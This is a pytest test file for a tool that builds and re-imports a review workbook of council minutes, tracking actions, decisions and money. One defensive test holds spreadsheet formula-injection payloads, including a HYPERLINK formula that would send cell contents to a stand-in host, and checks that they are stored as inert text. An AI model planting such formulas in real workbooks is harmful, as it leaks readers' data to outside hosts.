"""Officers' review: workbook, import, and reviews that survive re-runs and extractor changes."""
from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from flows.cli import cli
from flows.review import (STORE_NAME, apply_reviews, import_workbook, load_reviews, normalise_correct,
                          normalise_due, write_workbook)
from flows.tracking import add_tracking, stable_id
from tests.flows.tracking_corpus import corpus_frames

AS_OF = "2022-06-30"
DENTAL = "Raised concerns that it was difficult to get urgent dental care"


def run_once(out: Path, frames=None):
    """What a run does with the tables: track, apply stored reviews, write the workbook."""
    frames = apply_reviews(add_tracking(frames if frames is not None else corpus_frames(), as_of=AS_OF),
                           out / STORE_NAME)
    write_workbook(frames, out / "review.xlsx")
    return frames


def extractor_changed(frames):
    """A new extractor version: every span one character shorter, so every row id differs."""
    out = dict(frames)
    for name, id_col in (("actions", "action_id"), ("recommendations", "rec_id"), ("resolutions", "res_id")):
        df = frames[name].copy()
        df["char_end"] = df["char_end"] - 1
        df["text"] = df["text"].str[:-1]
        df[id_col] = df[id_col].map(lambda i: stable_id("v2", i))
        out[name] = df
    return out


def fill(path: Path, sheet: str, match_col: str, startswith: str, answers: dict[str, str]) -> None:
    """Type answers into the row whose `match_col` starts with `startswith`, as an officer would."""
    book = load_workbook(path)
    ws = book[sheet]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if str(row[header.index(match_col)].value or "").startswith(startswith):
            for name, value in answers.items():
                row[header.index(name)].value = value
            break
    else:
        raise AssertionError(f"no row starting {startswith!r} in {sheet}")
    book.save(path)


@pytest.fixture()
def reviewed(tmp_path):
    """A run, an officer's answers typed into review.xlsx, and their import."""
    run_once(tmp_path)
    book = tmp_path / "review.xlsx"
    fill(book, "Open actions", "action", DENTAL,
         {"correct?": "Y", "corrected owner": "NHS England", "corrected due date": "31/03/2022",
          "note": "NHS England to provide further information"})
    fill(book, "Decisions", "recommendation", "AGREE the Capital", {"correct?": "yes"})
    fill(book, "Decisions", "resolution", "Cabinet agree the Commissioning Plan",
         {"correct?": "no", "note": "minute 91 is not in this excerpt"})
    written, store = import_workbook(book)
    assert written == 3 and store == tmp_path / STORE_NAME
    return tmp_path


# ---------------------------------------------------------------- workbook
def test_workbook_layout(tmp_path):
    run_once(tmp_path)
    book = load_workbook(tmp_path / "review.xlsx")
    assert book.sheetnames == ["Open actions", "Decisions", "Money"]
    ws = book["Open actions"]
    header = [c.value for c in ws[1]]
    for col in ("file", "page", "source sentence", "correct?", "corrected owner", "corrected due date", "note"):
        assert col in header
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref.startswith("A1:")
    assert ws.column_dimensions["B"].width == 60
    # only open actions, the overdue one first and highlighted
    texts = [r[header.index("action")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert texts[0].startswith(DENTAL) and not any(t.startswith("Requested that Members visited") for t in texts)
    assert ws["A2"].value == "yes" and ws["A2"].fill.fgColor.rgb.endswith("F8CBAD")
    assert ws.cell(row=3, column=1).fill.fgColor.rgb in ("00000000", None)
    decisions = book["Decisions"]
    dh = [c.value for c in decisions[1]]
    assert decisions.max_row - 1 == 5 and "outcome" in dh and "correct?" in dh


def test_answer_normalisers():
    assert normalise_correct(" Y ") == "yes" and normalise_correct("wrong") == "no"
    assert normalise_correct("") == ""
    assert normalise_due("31/03/2022") == "2022-03-31" and normalise_due("2022-03-31") == "2022-03-31"
    assert normalise_due("end of March") == ""          # no year: not a date; import keeps it as a note


# ---------------------------------------------------------------- import and re-runs
def test_review_survives_a_rerun(reviewed):
    frames = run_once(reviewed)
    t = frames["action_tracks"]
    dental = t[t["text"].str.startswith(DENTAL)].iloc[0]
    assert dental.owner == "NHS England" and dental.owner_extracted == "Kate Parker"
    assert dental.due_date == "2022-03-31" and dental.due_date_extracted == "2022-01-31"
    assert dental.overdue and dental.review == "correct"
    d = frames["decisions"]
    wrong = d[d["resolution"].str.startswith("Cabinet agree the Commissioning Plan")]
    assert len(wrong) == 1 and wrong.iloc[0].review == "wrong"            # kept, flagged
    assert wrong.iloc[0].review_note == "minute 91 is not in this excerpt"
    assert set(frames["reviews"]["match"]) == {"id"}
    # the regenerated workbook shows the stored answers
    ws = load_workbook(reviewed / "review.xlsx")["Open actions"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2, values_only=True) if r[header.index("action")].startswith(DENTAL))
    assert row[header.index("corrected owner")] == "NHS England"
    assert row[header.index("owner")] == "NHS England"


def test_review_survives_an_extractor_change(reviewed):
    changed = extractor_changed(corpus_frames())
    frames = run_once(reviewed, changed)
    reviews = frames["reviews"]
    assert set(reviews["match"]) == {"span"}           # every id changed; the words did not
    t = frames["action_tracks"]
    dental = t[t["text"].str.startswith(DENTAL)].iloc[0]
    assert dental.owner == "NHS England"
    d = frames["decisions"]
    assert d[d["resolution"].str.startswith("Cabinet agree the Commissioning Plan")].iloc[0].review == "wrong"
    assert d[d["recommendation"].str.startswith("AGREE the Capital")].iloc[0].review == "correct"
    assert len(load_reviews(reviewed / STORE_NAME)) == 3      # a run reads the store, never rewrites it


def test_review_of_a_vanished_row_is_kept_unattached(reviewed):
    frames = run_once(reviewed, corpus_frames(with_kent=False))
    r = frames["reviews"]
    gone = r[r["table_name"] == "decisions"]
    assert len(gone) == 2 and set(gone["match"]) == {"unattached"} and set(gone["attached_to"]) == {""}
    # and it comes back when the paper does
    frames = run_once(reviewed)
    d = frames["decisions"]
    assert d[d["resolution"].str.startswith("Cabinet agree the Commissioning Plan")].iloc[0].review == "wrong"


def test_empty_cells_never_erase_a_stored_answer(reviewed):
    book = reviewed / "review.xlsx"
    run_once(reviewed)
    fill(book, "Open actions", "action", DENTAL, {"corrected owner": None, "note": "chased again in May"})
    import_workbook(book)
    stored = load_reviews(reviewed / STORE_NAME).set_index("table_name")
    row = stored.loc["action_tracks"]
    assert row["owner"] == "NHS England" and row["note"] == "chased again in May"


def test_cli_review_import(tmp_path):
    run_once(tmp_path)
    fill(tmp_path / "review.xlsx", "Decisions", "recommendation", "AGREE the Capital", {"correct?": "no"})
    result = CliRunner().invoke(cli, ["review", "import", str(tmp_path / "review.xlsx")])
    assert result.exit_code == 0, result.output
    assert "1 reviews stored" in result.output
    assert load_reviews(tmp_path / STORE_NAME).iloc[0]["correct"] == "no"


def test_run_imports_answers_left_in_the_workbook(tmp_path):
    from flows.tracking import prepare_tables

    run_once(tmp_path)
    fill(tmp_path / "review.xlsx", "Decisions", "recommendation", "AGREE the Capital", {"correct?": "no"})
    frames = prepare_tables(corpus_frames(), tmp_path)      # the next run, without an import first
    d = frames["decisions"]
    assert d[d["recommendation"].str.startswith("AGREE the Capital")].iloc[0].review == "wrong"


def test_workbook_round_trips_through_openpyxl(tmp_path):
    run_once(tmp_path)
    book = load_workbook(tmp_path / "review.xlsx")
    book.save(tmp_path / "again.xlsx")
    assert load_workbook(tmp_path / "again.xlsx")["Money"].freeze_panes == "A2"


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None and shutil.which("libreoffice") is None,
                    reason="LibreOffice is not installed (apt-get install libreoffice-calc-nogui; make system-deps)")
def test_workbook_opens_in_libreoffice(tmp_path):
    run_once(tmp_path)
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    done = subprocess.run([soffice, "--headless", "--norestore", f"-env:UserInstallation=file://{tmp_path}/lo",
                           "--convert-to", "pdf", "--outdir", str(tmp_path), str(tmp_path / "review.xlsx")],
                          capture_output=True, text=True, timeout=180)
    assert done.returncode == 0, done.stderr
    pdf = tmp_path / "review.pdf"
    assert pdf.exists() and pdf.read_bytes().startswith(b"%PDF") and pdf.stat().st_size > 1000


@pytest.mark.slow
def test_end_to_end_run_import_rerun(tmp_path):
    """Two real Kent Cabinet minutes through run_local: linked meetings, the approval of the earlier
    minutes as a decision, and a Money row marked wrong that survives the next run."""
    import pandas as pd

    from flows.pipeline import run_local
    from tests.conftest import PDFS

    out = tmp_path / "out"
    sources = [PDFS / "kent-cabinet-2025-01-09-minutes.pdf", PDFS / "kent-cabinet-2025-01-30-minutes.pdf"]
    run_local(sources, out)
    assert (out / "review.xlsx").exists() and (out / "report.html").exists()
    meetings = pd.read_csv(out / "meetings.csv", dtype=str).fillna("")
    jan9, jan30 = (meetings[meetings["meeting_date"] == d].iloc[0] for d in ("2025-01-09", "2025-01-30"))
    assert jan9.next_meeting_id == jan30.meeting_id and jan30.previous_meeting_id == jan9.meeting_id
    decisions = pd.read_csv(out / "decisions.csv", dtype=str).fillna("")
    approval = decisions[decisions["minutes_of"] == "2025-01-09"]
    assert len(approval) == 1 and approval.iloc[0].meeting_date == "2025-01-30"

    book = load_workbook(out / "review.xlsx")
    ws = book["Money"]
    header = [c.value for c in ws[1]]
    ws.cell(row=2, column=header.index("correct?") + 1, value="no")
    amount_id = ws.cell(row=2, column=header.index("row_id") + 1).value
    book.save(out / "review.xlsx")
    result = CliRunner().invoke(cli, ["review", "import", str(out / "review.xlsx")])
    assert result.exit_code == 0 and "1 reviews stored" in result.output

    run_local(sources, out)
    amounts = pd.read_csv(out / "amounts.csv", dtype=str).fillna("")
    assert amounts.loc[amounts["amount_id"] == amount_id, "review"].tolist() == ["wrong"]
    assert len(amounts) > 1 and (amounts["review"] == "").sum() == len(amounts) - 1    # kept, flagged
    reviews = pd.read_csv(out / "reviews.csv", dtype=str).fillna("")
    assert reviews[["attached_to", "match"]].values.tolist() == [[amount_id, "id"]]


def test_import_of_a_copy_saved_elsewhere_updates_the_runs_store(tmp_path):
    out, downloads = tmp_path / "out", tmp_path / "downloads"
    out.mkdir(), downloads.mkdir()
    run_once(out)
    copy = downloads / "review (officer copy).xlsx"
    shutil.copy(out / "review.xlsx", copy)
    fill(copy, "Decisions", "recommendation", "AGREE the Capital", {"correct?": "yes"})
    written, store = import_workbook(copy)
    assert written == 1 and store == out / STORE_NAME and not (downloads / STORE_NAME).exists()
    # with the output folder gone, the store is made beside the workbook
    shutil.rmtree(out)
    assert import_workbook(copy)[1] == downloads / STORE_NAME


def test_rows_are_tall_enough_for_their_wrapped_sentences(tmp_path):
    from flows.review import row_height

    assert row_height(["£23.3m", None, 5], [16, 14, 6]) == 15.0
    long = "Raised concerns that it was difficult to get urgent dental care and queried if there were new " * 2
    assert row_height([long], [60]) == 15.0 * 4
    assert row_height([long * 20], [60]) == 15.0 * 12            # capped: the cell scrolls beyond that
    run_once(tmp_path)
    ws = load_workbook(tmp_path / "review.xlsx")["Open actions"]
    assert ws.row_dimensions[2].height > 15 and ws.page_setup.orientation == "landscape"


def test_newest_answer_wins_when_two_reviews_land_on_one_row(reviewed):
    from flows.review import store_reviews

    changed = extractor_changed(corpus_frames())
    frames = run_once(reviewed, changed)           # the old answer re-attaches by span; the workbook shows it
    t = frames["action_tracks"]
    new_id = t[t["text"].str.startswith(DENTAL)].iloc[0].track_id
    store_reviews([{"table_name": "action_tracks", "row_id": new_id, "owner": "Val Thomas", "correct": "",
                    "due_date": "", "note": "", "imported_at": "2999-01-01T00:00:00Z"}], reviewed / STORE_NAME)
    frames = run_once(reviewed, changed)
    t = frames["action_tracks"]
    assert t[t["text"].str.startswith(DENTAL)].iloc[0].owner == "Val Thomas"


def test_money_review_follows_its_sentence_when_a_converter_change_moves_every_offset(tmp_path):
    """A converter change (a longer page header) shifts every offset, so every amount_id changes;
    the answer stays with the same amount of the same sentence, not its neighbour."""
    from extractors.records import Amount, Document, Page
    from flows.tables import build_frames

    line = "A) Note the forecast revenue overspend of £23.3m (excluding Schools) and £30.4m on Schools.\n"

    def frames_for(prefix: str):
        text = prefix + line
        amounts = []
        for shown in ("£23.3m", "£30.4m"):
            s = text.index(shown)
            amounts.append(Amount(text=shown, char_start=s, char_end=s + len(shown), doc_id="kent30", page=1,
                                  amount_id=stable_id("amounts", prefix, shown)))
        return build_frames({
            "documents": [Document(doc_id="kent30", source_path="corpora/pdfs/kent-cabinet-2025-01-30-minutes.pdf")],
            "pages": [Page(doc_id="kent30", page=1, char_start=0, char_end=len(text), text=text)],
            "amounts": amounts})

    run_once(tmp_path, frames_for("KENT COUNTY COUNCIL\n"))
    fill(tmp_path / "review.xlsx", "Money", "amount", "£30.4m", {"correct?": "no", "note": "schools figure"})
    import_workbook(tmp_path / "review.xlsx")
    frames = run_once(tmp_path, frames_for("KENT COUNTY COUNCIL\nCABINET\nMINUTES of a meeting of the Cabinet\n"))
    a = frames["amounts"].set_index("text")
    assert a.loc["£30.4m", "review"] == "wrong" and a.loc["£23.3m", "review"] == ""
    assert frames["reviews"]["match"].tolist() == ["text"]


# ---------------------------------------------------------------- hostile cells, numbers, validation
def test_text_that_would_start_a_formula_is_stored_as_text(tmp_path):
    """An action written `=HYPERLINK(...)` in a paper must not become a live link in the workbook."""
    frames = apply_reviews(add_tracking(corpus_frames(), as_of=AS_OF), tmp_path / STORE_NAME)
    tracks = frames["action_tracks"].copy()
    hostile = ['=HYPERLINK("http://example.invalid/?d="&C2&D2,"Clerk to report back")', "+44 1223 000000",
               "-1+2", "@SUM(A1:A9)", "\tleading tab", "\rleading return"]
    import pandas as pd

    template = tracks[tracks["state"] != "closed"].iloc[[0]]
    copies = []
    for i, text in enumerate(hostile):
        row = template.copy()
        row["track_id"], row["text"], row["owner"] = f"hostile{i}", text, "=1+1"
        copies.append(row)
    frames["action_tracks"] = pd.concat([tracks, *copies], ignore_index=True)
    write_workbook(frames, tmp_path / "review.xlsx")
    ws = load_workbook(tmp_path / "review.xlsx")["Open actions"]
    header = [c.value for c in ws[1]]
    cells = {ws.cell(row=r, column=header.index("action") + 1).value: ws.cell(row=r, column=header.index("action") + 1)
             for r in range(2, ws.max_row + 1)}
    written = hostile
    for text in written:
        assert text in cells, text
        assert cells[text].data_type == "s"
    owners = [ws.cell(row=r, column=header.index("owner") + 1) for r in range(2, ws.max_row + 1)]
    assert [o.data_type for o in owners if o.value == "=1+1"] == ["s"] * len(written)
    # and the file itself holds no formula element
    import zipfile
    with zipfile.ZipFile(tmp_path / "review.xlsx") as z:
        assert not any(b"<f>" in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_money_values_are_number_cells(tmp_path):
    from extractors.records import Amount, Document, Page
    from flows.tables import build_frames

    text = "The scheme costs £23.3m, with a grant of £1,250.50 a month and a fee of £0.99 per visit.\n"
    amounts = [Amount(text=shown, char_start=text.index(shown), char_end=text.index(shown) + len(shown),
                      doc_id="budget", page=1, value_gbp=value, amount_id=stable_id("amounts", shown))
               for shown, value in (("£23.3m", "23300000"), ("£1,250.50", "1250.50"), ("£0.99", "0.99"))]
    run_once(tmp_path, build_frames({"documents": [Document(doc_id="budget", source_path="papers/budget.pdf")],
                                     "pages": [Page(doc_id="budget", page=1, char_start=0, char_end=len(text),
                                                    text=text)],
                                     "amounts": amounts}))
    ws = load_workbook(tmp_path / "review.xlsx")["Money"]
    header = [c.value for c in ws[1]]
    values = [ws.cell(row=r, column=header.index("value (£)") + 1) for r in range(2, ws.max_row + 1)]
    assert values and all(c.data_type == "n" and isinstance(c.value, (int, float)) for c in values if c.value is not None)
    amounts = {ws.cell(row=r, column=header.index("amount") + 1).value: c.value for r, c in enumerate(values, start=2)}
    assert amounts == {"£23.3m": 23_300_000, "£1,250.50": 1250.5, "£0.99": 0.99}
    assert values[0].number_format.startswith("£")


def test_parse_due_uses_the_extractors_date_reading():
    from datetime import date, datetime

    from flows.review import parse_due

    assert parse_due("31/03/2022") == "2022-03-31" and parse_due("Thursday 31 March 2022") == "2022-03-31"
    assert parse_due("by 30 June 2022") == "2022-06-30" and parse_due("June 2022") == "2022-06-30"
    assert parse_due(datetime(2022, 3, 31, 0, 0)) == "2022-03-31" and parse_due(date(2022, 3, 31)) == "2022-03-31"
    for unreadable in ("next Tuesday-ish", "31/02/2026", "end of March", "2022/23", "1 April 2022 or 1 May 2022", ""):
        assert parse_due(unreadable) is None, unreadable


def test_import_keeps_an_unreadable_due_date_as_a_note_and_reports_it(tmp_path):
    from flows.review import import_review

    run_once(tmp_path)
    fill(tmp_path / "review.xlsx", "Open actions", "action", DENTAL,
         {"corrected due date": "next Tuesday-ish", "note": "asked the ICB"})
    written, store, problems = import_review(tmp_path / "review.xlsx")
    assert written == 1 and len(problems) == 1 and "next Tuesday-ish" in problems[0]
    stored = load_reviews(store).iloc[0]
    assert stored.due_date == "" and stored.note == "asked the ICB; due date as typed: next Tuesday-ish"
    fill(tmp_path / "review.xlsx", "Open actions", "action", DENTAL, {"corrected due date": "31/02/2026"})
    assert load_reviews(store).iloc[0].due_date == ""
    written, _, problems = import_review(tmp_path / "review.xlsx")
    assert "31/02/2026" in problems[0] and load_reviews(store).iloc[0].due_date == ""
    frames = run_once(tmp_path)
    t = frames["action_tracks"]
    assert t[t["text"].str.startswith(DENTAL)].iloc[0].due_date == "2022-01-31"     # the extracted one stays


def test_import_refuses_a_sheet_without_its_header_or_a_sheet_it_did_not_write(tmp_path):
    from flows.review import ReviewImportError, import_review

    run_once(tmp_path)
    book_path = tmp_path / "review.xlsx"
    fill(book_path, "Decisions", "recommendation", "AGREE the Capital", {"correct?": "no"})
    book = load_workbook(book_path)
    book["Decisions"].delete_rows(1)
    book.save(tmp_path / "headless.xlsx")
    with pytest.raises(ReviewImportError, match="header"):
        import_review(tmp_path / "headless.xlsx")
    book = load_workbook(book_path)
    book.create_sheet("My notes")
    book.save(tmp_path / "extra.xlsx")
    with pytest.raises(ReviewImportError, match="My notes"):
        import_review(tmp_path / "extra.xlsx")
    assert not (tmp_path / STORE_NAME).exists()          # nothing stored from a refused workbook


def test_import_reports_conflicting_duplicate_rows(tmp_path):
    from flows.review import import_review

    run_once(tmp_path)
    book_path = tmp_path / "review.xlsx"
    book = load_workbook(book_path)
    ws = book["Decisions"]
    header = [c.value for c in ws[1]]
    first = [c.value for c in ws[2]]
    first[header.index("correct?")] = "yes"
    ws.cell(row=2, column=header.index("correct?") + 1, value="yes")
    conflicting = list(first)
    conflicting[header.index("correct?")] = "no"
    ws.append(conflicting)
    ws.append(list(conflicting))                         # an agreeing copy is not another conflict
    book.save(book_path)
    written, store, problems = import_review(book_path)
    assert len(problems) == 1 and "differently" in problems[0] and first[header.index("row_id")] in problems[0]
    assert "row 7" in problems[0] and "rows 2 and 7" in problems[0]
    assert written == 1 and load_reviews(store).iloc[0].correct == "no"      # the lowest row wins, as reported


def test_cli_review_import_prints_the_warnings(tmp_path):
    run_once(tmp_path)
    fill(tmp_path / "review.xlsx", "Open actions", "action", DENTAL, {"corrected due date": "when convenient"})
    result = CliRunner().invoke(cli, ["review", "import", str(tmp_path / "review.xlsx")])
    assert result.exit_code == 0
    assert "warning:" in result.output and "when convenient" in result.output     # click 8.2: stderr included
    assert "1 reviews stored" in result.output and "1 warnings above" in result.output


def test_an_untouched_workbook_is_not_read_again(tmp_path, monkeypatch):
    """A run imports the last workbook every time; the one it wrote itself holds only stored answers."""
    import flows.review as review

    run_once(tmp_path)
    calls = []
    monkeypatch.setattr(review, "read_workbook_checked", lambda p: calls.append(p) or review.ImportResult([], []))
    assert review.import_review(tmp_path / "review.xlsx")[0] == 0 and calls == []
    fill(tmp_path / "review.xlsx", "Decisions", "recommendation", "AGREE the Capital", {"correct?": "no"})
    review.import_review(tmp_path / "review.xlsx")
    assert calls == [tmp_path / "review.xlsx"]
